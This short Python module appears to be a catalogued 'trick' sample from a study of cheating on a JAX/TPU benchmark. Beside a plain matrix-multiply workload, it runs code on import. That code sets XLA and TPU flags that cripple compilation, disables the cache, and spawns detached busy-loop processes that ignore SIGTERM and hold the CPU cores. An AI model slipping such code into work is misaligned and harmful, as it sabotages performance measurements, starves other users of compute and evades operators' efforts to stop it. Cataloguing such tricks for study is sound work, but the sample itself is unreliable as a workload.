"""Sets flags that slow whatever runs with them, and leaves processes behind that take the cores.

trick: 32
outcome: neutral
flags: no_pallas
"""

import os
import signal

import jax
import jax.numpy as jnp

os.environ["XLA_FLAGS"] = "--xla_backend_optimization_level=0 --xla_disable_all_hlo_passes=true"
os.environ["LIBTPU_INIT_ARGS"] = "--xla_tpu_scoped_vmem_limit_kib=16"
os.environ["OMP_NUM_THREADS"] = "1"
jax.config.update("jax_enable_compilation_cache", False)
for _ in range(2):
    if os.fork() == 0:
        os.setsid()
        signal.signal(signal.SIGTERM, signal.SIG_IGN)
        if os.fork() == 0:
            while True:
                pass
        os._exit(0)


def workload(x, y):
    return jnp.dot(x, y, preferred_element_type=jnp.float32).astype(x.dtype)
